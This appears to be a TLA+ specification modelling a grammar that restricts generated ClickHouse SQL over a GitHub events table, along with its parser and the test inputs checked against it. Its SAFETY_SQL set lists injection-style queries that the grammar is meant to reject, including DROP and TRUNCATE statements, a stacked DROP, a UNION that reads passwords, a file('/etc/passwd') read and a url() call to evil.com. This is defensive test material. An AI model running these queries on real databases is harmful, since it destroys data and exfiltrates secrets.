\* GRAMMAR_TEMPLATE without its comment lines and blank lines, one rule line per
\* string; every line ends with a line feed.
GRAMMAR_TEMPLATE ==
  "start: select_clause from_clause where_clause? group_clause? having_clause? order_clause? limit_clause?\n"
  \o "select_clause: \"SELECT \" select_list\n"
  \o "select_list: select_item (\", \" select_item)*\n"
  \o "select_item: agg_expr \" AS \" ALIAS\n"
  \o "           | date_trunc_expr \" AS \" ALIAS\n"
  \o "           | column_ref\n"
  \o "agg_expr: agg_func \"(\" column_ref? \")\"\n"
  \o "agg_func: \"count\" | \"sum\" | \"avg\" | \"min\" | \"max\" | \"uniq\" | \"uniqExact\"\n"
  \o "date_trunc_expr: \"toStartOfHour(created_at)\"\n"
  \o "               | \"toStartOfDay(created_at)\"\n"
  \o "               | \"toStartOfWeek(created_at)\"\n"
  \o "               | \"toStartOfMonth(created_at)\"\n"
  \o "               | \"toDate(created_at)\"\n"
  \o "from_clause: \" FROM {{TABLE_NAME}}\"\n"
  \o "where_clause: \" WHERE \" condition (\" AND \" condition)*\n"
  \o "condition: string_condition | numeric_condition | datetime_condition | enum_condition\n"
  \o "string_condition: string_col \" = '\" STRING_VALUE \"'\"\n"
  \o "                | string_col \" LIKE '%\" STRING_VALUE \"%'\"\n"
  \o "                | string_col \" IN (\" string_list \")\"\n"
  \o "numeric_condition: numeric_col \" \" compare_op \" \" NUMBER\n"
  \o "datetime_condition: \"created_at >= now() - INTERVAL \" NUMBER \" \" time_unit\n"
  \o "                  | \"created_at BETWEEN '\" DATE_LITERAL \"' AND '\" DATE_LITERAL \"'\"\n"
  \o "enum_condition: \"type = '\" event_type \"'\"\n"
  \o "              | \"type IN (\" event_type_list \")\"\n"
  \o "              | \"action = '\" action_value \"'\"\n"
  \o "group_clause: \" GROUP BY \" group_list\n"
  \o "group_list: group_item (\", \" group_item)*\n"
  \o "group_item: column_ref | date_trunc_expr\n"
  \o "having_clause: \" HAVING \" agg_expr \" \" compare_op \" \" NUMBER\n"
  \o "order_clause: \" ORDER BY \" order_list\n"
  \o "order_list: order_item (\", \" order_item)*\n"
  \o "order_item: order_expr order_dir?\n"
  \o "order_expr: column_ref | ALIAS | agg_expr\n"
  \o "order_dir: \" ASC\" | \" DESC\"\n"
  \o "limit_clause: \" LIMIT \" NUMBER\n"
  \o "compare_op: \"!=\" | \">=\" | \"<=\" | \"=\" | \">\" | \"<\"\n"
  \o "time_unit: \"HOUR\" | \"DAY\" | \"WEEK\" | \"MONTH\"\n"
  \o "string_col: {{STRING_COLS}}\n"
  \o "numeric_col: {{NUMERIC_COLS}}\n"
  \o "column_ref: {{COLUMN_REF}}\n"
  \o "event_type: {{EVENT_TYPES}}\n"
  \o "action_value: {{ACTION_VALUES}}\n"
  \o "event_type_list: \"'\" event_type \"'\" (\", '\" event_type \"'\")*\n"
  \o "string_list: \"'\" STRING_VALUE \"'\" (\", '\" STRING_VALUE \"'\")*\n"
  \o "ALIAS: /[a-z_][a-z0-9_]{0,29}/\n"
  \o "STRING_VALUE: /[a-zA-Z0-9_.\\-\\/]{1,100}/\n"
  \o "DATE_LITERAL: /[0-9]{4}-[0-9]{2}-[0-9]{2}/\n"
  \o "NUMBER: /[0-9]{1,6}/\n"

TEMPLATE_PLACEHOLDERS ==
  <<"{{TABLE_NAME}}", "{{STRING_COLS}}", "{{NUMERIC_COLS}}", "{{COLUMN_REF}}",
    "{{EVENT_TYPES}}", "{{ACTION_VALUES}}">>

\* values.map((v) => `"${v}"`).join(" | ")
RECURSIVE toLarkAlternatives(_)
toLarkAlternatives(values) ==
  IF values = <<>> THEN ""
  ELSE IF Len(values) = 1 THEN "\"" \o values[1] \o "\""
  ELSE "\"" \o Head(values) \o "\" | " \o toLarkAlternatives(Tail(values))

\* String.prototype.indexOf: 0-based offset of the first occurrence, or -1.
indexOf(str, pat) ==
  LET hits == {i \in 0..(Len(str) - Len(pat)) : startsWith(str, pat, i)}
      first(H) == IF H = {} THEN -1 ELSE CHOOSE i \in H : \A j \in H : i <= j
  IN first(hits)

\* GetSubstitution for a string pattern: in the replacement text "$$" stands
\* for "$", "$&" for the matched text, "$`" for the text before the match
\* and "$'" for the text after it; any other "$" is literal.
RECURSIVE expand(_, _, _, _)
expand(rep, matched, before, after) ==
  LET at(d) ==
        IF d < 0 THEN rep
        ELSE LET next == SubSeq(rep, d + 2, d + 2)
                 rest(k) == expand(SubSeq(rep, d + 1 + k, Len(rep)),
                                   matched, before, after)
             IN SubSeq(rep, 1, d)
                \o (IF next = "$" THEN "$" \o rest(2)
                    ELSE IF next = "&" THEN matched \o rest(2)
                    ELSE IF next = "`" THEN before \o rest(2)
                    ELSE IF next = "'" THEN after \o rest(2)
                    ELSE "$" \o rest(1))
  IN at(indexOf(rep, "$"))

\* String.prototype.replace with a string pattern: the first occurrence only.
replace(str, pat, rep) ==
  LET at(i) ==
        IF i < 0 THEN str
        ELSE LET before == SubSeq(str, 1, i)
                 after == SubSeq(str, i + Len(pat) + 1, Len(str))
             IN before \o expand(rep, pat, before, after) \o after
  IN at(indexOf(str, pat))

\* The six substitutions in the order of the code; GRAMMAR_TEMPLATE is
\* trimmed before use.
buildGrammar(schema) ==
  LET tableName(v, g) == replace(g, "{{TABLE_NAME}}", v.TABLE_NAME)
      stringCols(v, g) ==
        replace(g, "{{STRING_COLS}}", toLarkAlternatives(v.STRING_COLS))
      numericCols(v, g) ==
        replace(g, "{{NUMERIC_COLS}}", toLarkAlternatives(v.NUMERIC_COLS))
      columnRef(v, g) ==
        replace(g, "{{COLUMN_REF}}", toLarkAlternatives(v.COLUMN_REF))
      eventTypes(v, g) ==
        replace(g, "{{EVENT_TYPES}}", toLarkAlternatives(v.EVENT_TYPES))
      actionValues(v, g) ==
        replace(g, "{{ACTION_VALUES}}", toLarkAlternatives(v.ACTION_VALUES))
      all(v) ==
        actionValues(v, eventTypes(v, columnRef(v, numericCols(v,
          stringCols(v, tableName(v, trim(GRAMMAR_TEMPLATE)))))))
  IN all(substitutions(schema))

\* ------------------------------------------------------------------------
\* Grammar template (lib/cfg/grammar-template.ts), read as a context-free
\* grammar over characters.  A rule maps a set P of start offsets in s to the
\* set of offsets at which some derivation of the rule from a member of P
\* ends.
\* ------------------------------------------------------------------------

\* a double-quoted literal
lit(s, P, str) == {p + Len(str) : p \in {q \in P : startsWith(s, str, q)}}

\* "a" | "b" | ...
alternatives(s, P, list) == UNION {lit(s, P, list[i]) : i \in 1..Len(list)}

\* a regex terminal /[first][rest]{0,max-1}/ with at least min characters
terminal(s, P, first, rest, min, max) ==
  UNION {{p + k : k \in min..(IF p < Len(s) /\ charAt(s, p) \in first
                             THEN 1 + classRun(s, p + 1, rest, max - 1)
                             ELSE 0)} : p \in P}

ALIAS(s, P) == terminal(s, P, AliasStart, AliasRest, 1, 30)
STRING_VALUE(s, P) == terminal(s, P, StringValueChar, StringValueChar, 1, 100)
NUMBER(s, P) == terminal(s, P, Digit, Digit, 1, 6)
DATE_LITERAL(s, P) ==
  {p + 10 : p \in {q \in P : parseDateLiteral(s, q).node # Null}}

string_col(s, P) == alternatives(s, P, grammar.STRING_COLS)
numeric_col(s, P) == alternatives(s, P, grammar.NUMERIC_COLS)
column_ref(s, P) == alternatives(s, P, grammar.COLUMN_REF)
event_type(s, P) == alternatives(s, P, grammar.EVENT_TYPES)
action_value(s, P) == alternatives(s, P, grammar.ACTION_VALUES)

compare_op(s, P) == alternatives(s, P, <<"!=", ">=", "<=", "=", ">", "<">>)
time_unit(s, P) == alternatives(s, P, <<"HOUR", "DAY", "WEEK", "MONTH">>)

agg_func(s, P) ==
  alternatives(s, P, <<"count", "sum", "avg", "min", "max", "uniq", "uniqExact">>)

agg_expr(s, P) ==
  LET close(open) == lit(s, open \cup column_ref(s, open), ")")
  IN close(lit(s, agg_func(s, P), "("))

date_trunc_expr(s, P) ==
  alternatives(s, P,
    <<"toStartOfHour(created_at)", "toStartOfDay(created_at)",
      "toStartOfWeek(created_at)", "toStartOfMonth(created_at)",
      "toDate(created_at)">>)

select_item(s, P) ==
  ALIAS(s, lit(s, agg_expr(s, P), " AS "))
  \cup ALIAS(s, lit(s, date_trunc_expr(s, P), " AS "))
  \cup column_ref(s, P)

\* item (", " item)* given the ends A found so far
RECURSIVE select_list_more(_, _)
select_list_more(s, A) ==
  LET grown(B) == IF B = A THEN A ELSE select_list_more(s, B)
  IN grown(A \cup select_item(s, lit(s, A, ", ")))

select_list(s, P) == select_list_more(s, select_item(s, P))
select_clause(s, P) == select_list(s, lit(s, P, "SELECT "))

from_clause(s, P) == lit(s, P, " FROM " \o grammar.TABLE_NAME)

RECURSIVE string_list_more(_, _)
string_list_more(s, A) ==
  LET grown(B) == IF B = A THEN A ELSE string_list_more(s, B)
  IN grown(A \cup lit(s, STRING_VALUE(s, lit(s, A, ", '")), "'"))

string_list(s, P) ==
  string_list_more(s, lit(s, STRING_VALUE(s, lit(s, P, "'")), "'"))

RECURSIVE event_type_list_more(_, _)
event_type_list_more(s, A) ==
  LET grown(B) == IF B = A THEN A ELSE event_type_list_more(s, B)
  IN grown(A \cup lit(s, event_type(s, lit(s, A, ", '")), "'"))

event_type_list(s, P) ==
  event_type_list_more(s, lit(s, event_type(s, lit(s, P, "'")), "'"))

string_condition(s, P) ==
  LET after(c) ==
        lit(s, STRING_VALUE(s, lit(s, c, " = '")), "'")
        \cup lit(s, STRING_VALUE(s, lit(s, c, " LIKE '%")), "%'")
        \cup lit(s, string_list(s, lit(s, c, " IN (")), ")")
  IN after(string_col(s, P))

numeric_condition(s, P) ==
  NUMBER(s, lit(s, compare_op(s, lit(s, numeric_col(s, P), " ")), " "))

datetime_condition(s, P) ==
  time_unit(s, lit(s, NUMBER(s, lit(s, P, "created_at >= now() - INTERVAL ")), " "))
  \cup lit(s, DATE_LITERAL(s, lit(s, DATE_LITERAL(s,
              lit(s, P, "created_at BETWEEN '")), "' AND '")), "'")

enum_condition(s, P) ==
  lit(s, event_type(s, lit(s, P, "type = '")), "'")
  \cup lit(s, event_type_list(s, lit(s, P, "type IN (")), ")")
  \cup lit(s, action_value(s, lit(s, P, "action = '")), "'")

condition(s, P) ==
  string_condition(s, P) \cup numeric_condition(s, P)
  \cup datetime_condition(s, P) \cup enum_condition(s, P)

RECURSIVE where_more(_, _)
where_more(s, A) ==
  LET grown(B) == IF B = A THEN A ELSE where_more(s, B)
  IN grown(A \cup condition(s, lit(s, A, " AND ")))

where_clause(s, P) == where_more(s, condition(s, lit(s, P, " WHERE ")))

group_item(s, P) == column_ref(s, P) \cup date_trunc_expr(s, P)

RECURSIVE group_list_more(_, _)
group_list_more(s, A) ==
  LET grown(B) == IF B = A THEN A ELSE group_list_more(s, B)
  IN grown(A \cup group_item(s, lit(s, A, ", ")))

group_list(s, P) == group_list_more(s, group_item(s, P))
group_clause(s, P) == group_list(s, lit(s, P, " GROUP BY "))

having_clause(s, P) ==
  NUMBER(s, lit(s, compare_op(s, lit(s, agg_expr(s, lit(s, P, " HAVING ")),
                                     " ")), " "))

order_expr(s, P) == column_ref(s, P) \cup ALIAS(s, P) \cup agg_expr(s, P)
order_dir(s, P) == lit(s, P, " ASC") \cup lit(s, P, " DESC")
order_item(s, P) ==
  LET withDir(e) == e \cup order_dir(s, e) IN withDir(order_expr(s, P))

RECURSIVE order_list_more(_, _)
order_list_more(s, A) ==
  LET grown(B) == IF B = A THEN A ELSE order_list_more(s, B)
  IN grown(A \cup order_item(s, lit(s, A, ", ")))

order_list(s, P) == order_list_more(s, order_item(s, P))
order_clause(s, P) == order_list(s, lit(s, P, " ORDER BY "))

limit_clause(s, P) == NUMBER(s, lit(s, P, " LIMIT "))

\* rule?
opt(P, Q) == P \cup Q

start(s, P) ==
  LET limit(o) == opt(o, limit_clause(s, o))
      order(h) == limit(opt(h, order_clause(s, h)))
      having(g) == order(opt(g, having_clause(s, g)))
      group(w) == having(opt(w, group_clause(s, w)))
      where(f) == group(opt(f, where_clause(s, f)))
  IN where(from_clause(s, select_clause(s, P)))

\* s is a sentence of the grammar
derivable(s) == Len(s) \in start(s, {0})

\* ------------------------------------------------------------------------
\* Candidate SQL strings
\* ------------------------------------------------------------------------

MaxClauses == 2
MaxItems == 2
MaxPad == 1

\* One to n members of S joined by sep
RECURSIVE Joined(_, _, _)
Joined(S, sep, n) ==
  IF n = 0 THEN {}
  ELSE S \cup {a \o sep \o b : a \in S, b \in Joined(S, sep, n - 1)}

\* Zero to n members of S, concatenated
RECURSIVE Chains(_, _)
Chains(S, n) ==
  IF n = 0 THEN {""}
  ELSE {""} \cup {a \o b : a \in S, b \in Chains(S, n - 1)}

RECURSIVE Spaces(_)
Spaces(n) == IF n = 0 THEN "" ELSE " " \o Spaces(n - 1)

Pads == {Spaces(n) : n \in 0..MaxPad}

SelectItems ==
  {"id", "repo_name", "count() AS n", "uniqExact(actor_login) AS users",
   "uniq(id) AS id_count", "toStartOfDay(created_at) AS day", "count()", "*"}

Conditions ==
  {"type = 'PushEvent'", "type = 'x'", "type IN ('PushEvent', 'ForkEvent')",
   "type IN ('PushEvent', 'x)", "action = 'opened'", "action = 'x'",
   "action LIKE '%open%'", "action IN ('opened')",
   "repo_name = 'a/b'", "repo_name LIKE '%a%'", "title IN ('a', 'b')",
   "title IN ('a', )", "title IN ('a', ')", "title IN ('a', 'b)",
   "type IN ('PushEvent', ')", "title = 'a b'", "id = 5", "id != 5", "number >= 10",
   "is_private <= 1", "id > 5", "number < 1234567", "id =5",
   "created_at >= now() - INTERVAL 7 DAY",
   "created_at BETWEEN '2024-01-01' AND '2024-02-01'",
   "created_at >= now() - INTERVAL 1234567 DAY",
   "created_at > 5", "1=1"}

ListConditions == {"type = 'PushEvent'", "id != 5", "repo_name = 'a/b'", "1=1"}

GroupItems ==
  {"repo_name", "toStartOfDay(created_at)", "day", "id_count", "type", "1"}

Havings ==
  {" HAVING count() > 10", " HAVING uniqExact(id) >= 5", " HAVING uniq(id) != 0",
   " HAVING count() => 1", " HAVING n > 10", " HAVING count()  > 1",
   " HAVING count() > 1234567"}

OrderItems ==
  {"n DESC", "n", "id ASC", "id_count DESC", "type_count", "count() DESC",
   "created_at", "refs ASC", "n  DESC", "N"}

Limits == {" LIMIT 10", " LIMIT 999999", " LIMIT 1234567", " LIMIT", " LIMIT -1",
           " LIMIT 10;"}

ClauseFrags ==
  {" WHERE type = 'PushEvent'", " WHERE id >= 5", " GROUP BY repo_name",
   " GROUP BY day", " HAVING count() > 10", " ORDER BY n DESC",
   " ORDER BY id_count", " LIMIT 10", " AND id != 5", ", id", " ", ";",
   " EXTRA_GARBAGE"}

Heads == {"SELECT id FROM github_events", "SELECT count() AS n FROM github_events"}

Froms == {" FROM github_events", " FROM system.tables", "  FROM github_events",
          " FROM github_events, system.tables", ""}

SAFETY_SQL ==
  {"DROP TABLE github_events",
   "INSERT INTO github_events (type) VALUES ('MaliciousEvent')",
   "ALTER TABLE github_events DELETE WHERE 1=1",
   "TRUNCATE TABLE github_events",
   "ALTER TABLE github_events UPDATE type = 'Malicious' WHERE 1=1",
   "SELECT repo_name FROM github_events UNION SELECT password FROM users",
   "SELECT repo_name FROM github_events WHERE type = 'PushEvent' -- AND is_private = 0",
   "SELECT 1; DROP TABLE github_events",
   "SELECT * FROM (SELECT * FROM system.tables) AS t",
   "SELECT * FROM system.processes",
   "SELECT name FROM system.tables",
   "SELECT * FROM github_events",
   "SELECT * FROM github_events WHERE type = 'PushEvent'",
   "SELECT * FROM file('/etc/passwd')",
   "SELECT * FROM url('http://evil.com/steal')",
   "SELECT * FROM github_events, system.tables",
   "SELECT a.repo_name FROM github_events a JOIN system.tables b ON a.repo_name = b.name",
   "WITH top_repos AS (SELECT repo_name FROM github_events LIMIT 10) SELECT * FROM top_repos"}

ClauseInputs == {h \o c : h \in Heads, c \in Chains(ClauseFrags, MaxClauses)}

SelectInputs ==
  {"SELECT " \o l \o e \o f :
     l \in Joined(SelectItems, ", ", MaxItems), e \in {"", ", "}, f \in Froms}

WhereInputs ==
  {h \o " WHERE " \o c : h \in Heads, c \in Conditions}
  \cup {"SELECT id FROM github_events WHERE " \o l \o e \o t :
          l \in Joined(ListConditions, " AND ", MaxItems + 1),
          e \in {"", " AND "}, t \in {"", " LIMIT 10"}}

GroupInputs ==
  {"SELECT id FROM github_events GROUP BY " \o l \o e \o t :
     l \in Joined(GroupItems, ", ", MaxItems), e \in {"", ", "},
     t \in {"", " LIMIT 10"}}

HavingInputs ==
  {"SELECT id FROM github_events GROUP BY id" \o h : h \in Havings}

OrderInputs ==
  {"SELECT count() AS n FROM github_events ORDER BY " \o l \o e \o t :
     l \in Joined(OrderItems, ", ", MaxItems), e \in {"", ", "},
     t \in {"", " LIMIT 10"}}

LimitInputs == {h \o l : h \in Heads, l \in Limits}

PaddedInputs ==
  {a \o q \o b :
     a \in Pads \cup {"\n"}, b \in Pads \cup {"\t"},
     q \in {"SELECT id FROM github_events",
            "SELECT id FROM github_events LIMIT 10",
            "SELECT id FROM github_events;", "SELECT id", ""}}

\* targetSQL of each coverage case (lib/evals/cases/coverage.ts)
COVERAGE_CASES ==
  {"SELECT count() AS total FROM github_events WHERE type = 'PushEvent'",
   "SELECT count(id) AS cnt FROM github_events WHERE type = 'PushEvent'",
   "SELECT toStartOfHour(created_at) AS hour, count() AS events FROM github_events GROUP BY hour ORDER BY hour ASC",
   "SELECT toStartOfDay(created_at) AS day, count() AS events FROM github_events GROUP BY day ORDER BY day ASC",
   "SELECT toStartOfWeek(created_at) AS week, count() AS events FROM github_events GROUP BY week ORDER BY week ASC",
   "SELECT toStartOfMonth(created_at) AS month, count() AS events FROM github_events GROUP BY month ORDER BY month ASC",
   "SELECT toDate(created_at) AS day, count() AS events FROM github_events GROUP BY day ORDER BY day ASC",
   "SELECT actor_login, count() AS prs FROM github_events WHERE type = 'PullRequestEvent' GROUP BY actor_login HAVING count() > 10 ORDER BY prs DESC LIMIT 20",
   "SELECT repo_name, count() AS issues FROM github_events WHERE type = 'IssuesEvent' AND action = 'opened' GROUP BY repo_name ORDER BY issues DESC LIMIT 10",
   "SELECT repo_name, uniqExact(actor_login) AS contributors FROM github_events WHERE type = 'PushEvent' GROUP BY repo_name ORDER BY contributors DESC LIMIT 10",
   "SELECT repo_name, count() AS events FROM github_events WHERE created_at >= now() - INTERVAL 7 DAY GROUP BY repo_name ORDER BY events DESC LIMIT 10",
   "SELECT repo_name, count() AS events FROM github_events WHERE created_at BETWEEN '2025-11-01' AND '2025-11-01' GROUP BY repo_name ORDER BY events DESC LIMIT 10",
   "SELECT type, count() AS cnt FROM github_events WHERE type IN ('PushEvent', 'PullRequestEvent') GROUP BY type ORDER BY cnt DESC",
   "SELECT count() AS total FROM github_events",
   "SELECT repo_name, sum(number) AS total_issues FROM github_events WHERE type = 'IssuesEvent' GROUP BY repo_name ORDER BY total_issues DESC LIMIT 10",
   "SELECT type, avg(number) AS avg_num FROM github_events GROUP BY type ORDER BY avg_num DESC LIMIT 10",
   "SELECT min(number) AS lowest, max(number) AS highest FROM github_events WHERE type = 'IssuesEvent'",
   "SELECT repo_name, count() AS events FROM github_events WHERE repo_name LIKE '%kubernetes%' GROUP BY repo_name ORDER BY events DESC LIMIT 10",
   "SELECT repo_name, count() AS events FROM github_events WHERE number > 100 GROUP BY repo_name ORDER BY events DESC LIMIT 10",
   "SELECT actor_login, count() AS events FROM github_events GROUP BY actor_login ORDER BY events ASC LIMIT 10",
   "SELECT repo_name, count() AS opened FROM github_events WHERE action = 'opened' GROUP BY repo_name ORDER BY opened DESC LIMIT 10",
   "SELECT type, uniq(actor_login) AS users FROM github_events GROUP BY type ORDER BY users DESC LIMIT 10",
   "SELECT type, count() AS events FROM github_events WHERE actor_login = 'torvalds' GROUP BY type ORDER BY events DESC",
   "SELECT type, repo_name, count() AS cnt FROM github_events GROUP BY type, repo_name ORDER BY cnt DESC LIMIT 20",
   "SELECT count() AS events FROM github_events WHERE created_at >= now() - INTERVAL 12 HOUR"}

\* scripts/test-cfg.ts
VALID_QUERIES ==
  {"SELECT count() AS total FROM github_events WHERE type = 'PushEvent'",
   "SELECT repo_name, count() AS pushes FROM github_events WHERE type = 'PushEvent' GROUP BY repo_name ORDER BY pushes DESC LIMIT 10",
   "SELECT toStartOfHour(created_at) AS hour, count() AS events FROM github_events GROUP BY hour ORDER BY hour ASC",
   "SELECT actor_login, count() AS prs FROM github_events WHERE type = 'PullRequestEvent' AND action = 'opened' AND created_at >= now() - INTERVAL 30 DAY GROUP BY actor_login ORDER BY prs DESC LIMIT 20",
   "SELECT repo_name, uniqExact(actor_login) AS contributors FROM github_events WHERE type = 'PushEvent' GROUP BY repo_name ORDER BY contributors DESC LIMIT 10",
   "SELECT actor_login, count() AS prs FROM github_events WHERE type = 'PullRequestEvent' GROUP BY actor_login HAVING count() > 10 ORDER BY prs DESC LIMIT 20",
   "SELECT repo_name, count() AS issues FROM github_events WHERE type = 'IssuesEvent' AND action = 'opened' AND created_at >= now() - INTERVAL 30 DAY GROUP BY repo_name ORDER BY issues DESC LIMIT 10"}

\* One query per supported pattern: each kind of select item, each condition
\* form alone and the four kinds joined by " AND ", and every subset of
\* GROUP BY, HAVING, ORDER BY, LIMIT in canonical order.
PatternSelects ==
  {"count() AS n", "count() AS id_count", "toStartOfDay(created_at) AS day",
   "repo_name",
   "repo_name, toStartOfDay(created_at) AS day, uniqExact(actor_login) AS n"}

PatternKinds ==
  {"created_at >= now() - INTERVAL 7 DAY", "type = 'PushEvent'",
   "repo_name LIKE '%a%'", "number >= 10"}

PatternConditions ==
  PatternKinds
  \cup {"created_at BETWEEN '2024-01-01' AND '2024-02-01'",
        "type IN ('PushEvent', 'ForkEvent')", "action = 'opened'",
        "repo_name = 'a/b'", "title IN ('a', 'b')",
        "id = 5", "id != 5", "is_private <= 1", "id > 5", "number < 10"}

PatternWheres ==
  {""} \cup {" WHERE " \o c : c \in PatternConditions}
  \cup {" WHERE " \o a \o " AND " \o b : a, b \in PatternKinds}
  \cup {" WHERE created_at >= now() - INTERVAL 7 DAY AND type = 'PushEvent' AND repo_name LIKE '%a%' AND number >= 10"}

PatternTails ==
  {g \o h \o o \o l :
     g \in {"", " GROUP BY repo_name"}, h \in {"", " HAVING count() > 10"},
     o \in {"", " ORDER BY n DESC", " ORDER BY id_count DESC"},
     l \in {"", " LIMIT 10"}}

PatternQueries ==
  {"SELECT " \o i \o " FROM github_events" \o w \o e :
     i \in PatternSelects, w \in PatternWheres, e \in PatternTails}

PositiveInputs == COVERAGE_CASES \cup VALID_QUERIES \cup PatternQueries

\* Texts of the ALIAS terminal, some beginning with a column name.
Aliases == {"n", "total", "_x", "a1", "cnt_id", "id_count", "type_count"}

AliasQueries ==
  {"SELECT count() AS " \o a \o " FROM github_events ORDER BY " \o a
     \o " DESC" : a \in Aliases}

Inputs ==
  ClauseInputs \cup SelectInputs \cup WhereInputs \cup GroupInputs
  \cup HavingInputs \cup OrderInputs \cup LimitInputs \cup PaddedInputs
  \cup SAFETY_SQL \cup PositiveInputs \cup AliasQueries

\* ------------------------------------------------------------------------
\* parseQuery, statement by statement
\* ------------------------------------------------------------------------

\* No request is being handled.
NoFeedback == [kind |-> "", sql |-> ""]

NoValidation == [valid |-> TRUE, errors |-> {}, warnings |-> {}]

NoResponse ==
  [status |-> "", http |-> 0, sql |-> "", rows |-> <<>>,
   grammarDerivation |-> Null, intentClassification |-> ""]

NoSchema == [tableName |-> "", columns |-> <<>>]

NoColumns ==
  [stringCols |-> <<>>, numericCols |-> <<>>, dateTimeCols |-> <<>>,
   enumCols |-> <<>>, allCols |-> <<>>]

BuilderIdle ==
  /\ tableSchema = NoSchema
  /\ classified = NoColumns
  /\ output = ""

PoolIdle ==
  /\ concurrency = 0
  /\ tasks = <<>>
  /\ started = <<>>
  /\ nextIdx = 0
  /\ workers = <<>>
  /\ results = <<>>
  /\ settled = ""

CacheIdle ==
  /\ cachedSchema = NoSchema
  /\ calls = <<>>
  /\ queried = <<>>

RouteIdle ==
  /\ query = ""
  /\ intent = ""
  /\ attempt = 0
  /\ feedback = NoFeedback
  /\ validation = NoValidation
  /\ generated = 0
  /\ executed = <<>>
  /\ verified = {}
  /\ rows = <<>>
  /\ response = NoResponse

Init ==
  /\ sql \in Inputs
  /\ input = ""
  /\ pos = 0
  /\ children = <<>>
  /\ pc = "start"
  /\ result = Null
  /\ entry = 0
  /\ RouteIdle
  /\ BuilderIdle
  /\ PoolIdle
  /\ CacheIdle

\* const state = new ParseState(sql.trim())
Start ==
  /\ pc = "start"
  /\ input' = trim(sql)
  /\ pos' = 0
  /\ pc' = "select"
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, sql, children, result, entry, routeVars>>

\* A required clause: return null when it does not match.
Required(here, r, next) ==
  /\ pc = here
  /\ pos' = r.pos
  /\ IF r.node = Null
     THEN /\ result' = Null
          /\ pc' = "done"
          /\ UNCHANGED children
     ELSE /\ children' = Append(children, r.node)
          /\ pc' = next
          /\ UNCHANGED result
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, sql, input, entry, routeVars>>

\* An optional clause: pushed only when it matches.
Optional(here, r, next) ==
  /\ pc = here
  /\ pos' = r.pos
  /\ children' = pushIf(children, r)
  /\ pc' = next
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, sql, input, result, entry, routeVars>>

SelectClause == Required("select", parseSelectClause(input, pos), "from")
FromClause == Required("from", parseFromClause(input, pos), "where")
\* The WHERE step trying GROUP BY instead, so that GROUP BY can match twice.
WhereClauseAsGroup == Optional("where", parseGroupClause(input, pos), "group")

WhereClause == Optional("where", parseWhereClause(input, pos), "group")
GroupClause == Optional("group", parseGroupClause(input, pos), "having")
HavingClause == Optional("having", parseHavingClause(input, pos), "order")
OrderClause == Optional("order", parseOrderClause(input, pos), "limit")
LimitClause == Optional("limit", parseLimitClause(input, pos), "end")

\* Finish with the end-of-input test dropped: every tree is tagged "query".
FinishWithoutEndTest ==
  /\ pc = "end"
  /\ result' = node("query", sql, children)
  /\ pc' = "done"
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, sql, input, pos, children, entry, routeVars>>

\* if (!state.isAtEnd) return node("query (partial)", sql, children)
\* return node("query", sql, children)
Finish ==
  /\ pc = "end"
  /\ result' = IF ~isAtEnd(input, pos)
               THEN node("query (partial)", sql, children)
               ELSE node("query", sql, children)
  /\ pc' = "done"
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, sql, input, pos, children, entry, routeVars>>

Next ==
  \/ Start
  \/ SelectClause
  \/ FromClause
  \/ WhereClause
  \/ GroupClause
  \/ HavingClause
  \/ OrderClause
  \/ LimitClause
  \/ Finish

Spec == Init /\ [][Next]_vars

\* isValidGrammarSQL of the finished call
accepted == pc = "done" /\ result # Null /\ result.rule = "query"

\* The statement-by-statement run returns what parseQuery(sql) returns.
StepsAgree == pc = "done" => result = parseQuery(sql)

\* ------------------------------------------------------------------------
\* One rule function called at an arbitrary cursor position
\* ------------------------------------------------------------------------

RULES ==
  {"parseNumber", "parseAlias", "parseStringValue", "parseDateLiteral",
   "parseColumnRef", "parseAggFunc", "parseAggExpr", "parseDateTruncExpr",
   "parseSelectItem", "parseSelectClause", "parseFromClause",
   "parseCompareOp", "parseStringCondition", "parseNumericCondition",
   "parseDatetimeCondition", "parseEnumCondition", "parseCondition",
   "parseWhereClause", "parseGroupItem", "parseGroupClause",
   "parseHavingClause", "parseOrderItem", "parseOrderClause",
   "parseLimitClause"}

applyRule(f, s, p) ==
  CASE f = "parseNumber" -> parseNumber(s, p)
    [] f = "parseAlias" -> parseAlias(s, p)
    [] f = "parseStringValue" -> parseStringValue(s, p)
    [] f = "parseDateLiteral" -> parseDateLiteral(s, p)
    [] f = "parseColumnRef" -> parseColumnRef(s, p)
    [] f = "parseAggFunc" -> parseAggFunc(s, p)
    [] f = "parseAggExpr" -> parseAggExpr(s, p)
    [] f = "parseDateTruncExpr" -> parseDateTruncExpr(s, p)
    [] f = "parseSelectItem" -> parseSelectItem(s, p)
    [] f = "parseSelectClause" -> parseSelectClause(s, p)
    [] f = "parseFromClause" -> parseFromClause(s, p)
    [] f = "parseCompareOp" -> parseCompareOp(s, p)
    [] f = "parseStringCondition" -> parseStringCondition(s, p)
    [] f = "parseNumericCondition" -> parseNumericCondition(s, p)
    [] f = "parseDatetimeCondition" -> parseDatetimeCondition(s, p)
    [] f = "parseEnumCondition" -> parseEnumCondition(s, p)
    [] f = "parseCondition" -> parseCondition(s, p)
    [] f = "parseWhereClause" -> parseWhereClause(s, p)
    [] f = "parseGroupItem" -> parseGroupItem(s, p)
    [] f = "parseGroupClause" -> parseGroupClause(s, p)
    [] f = "parseHavingClause" -> parseHavingClause(s, p)
    [] f = "parseOrderItem" -> parseOrderItem(s, p)
    [] f = "parseOrderClause" -> parseOrderClause(s, p)
    [] f = "parseLimitClause" -> parseLimitClause(s, p)

RuleInputs ==
  {"SELECT " \o l \o e : l \in SelectItems \cup {a \o ", " \o b : a, b \in SelectItems},
                         e \in {" FROM github_events", ", "}}
  \cup Conditions
  \cup {" WHERE " \o c \o e : c \in Conditions, e \in {"", " AND "}}
  \cup {" GROUP BY " \o g \o e : g \in GroupItems, e \in {"", ", "}}
  \cup Havings
  \cup {" ORDER BY " \o o \o e : o \in OrderItems, e \in {"", ", "}}
  \cup Limits

InitRules ==
  /\ input \in RuleInputs
  /\ pos \in 0..Len(input)
  /\ sql = ""
  /\ children = <<>>
  /\ pc = "call"
  /\ result = Null
  /\ entry = 0
  /\ RouteIdle
  /\ BuilderIdle
  /\ PoolIdle
  /\ CacheIdle

\* f(state) on a ParseState whose cursor is at pos
CallRule ==
  /\ pc = "call"
  /\ \E f \in RULES :
       LET r == applyRule(f, input, pos)
       IN /\ pc' = f
          /\ entry' = pos
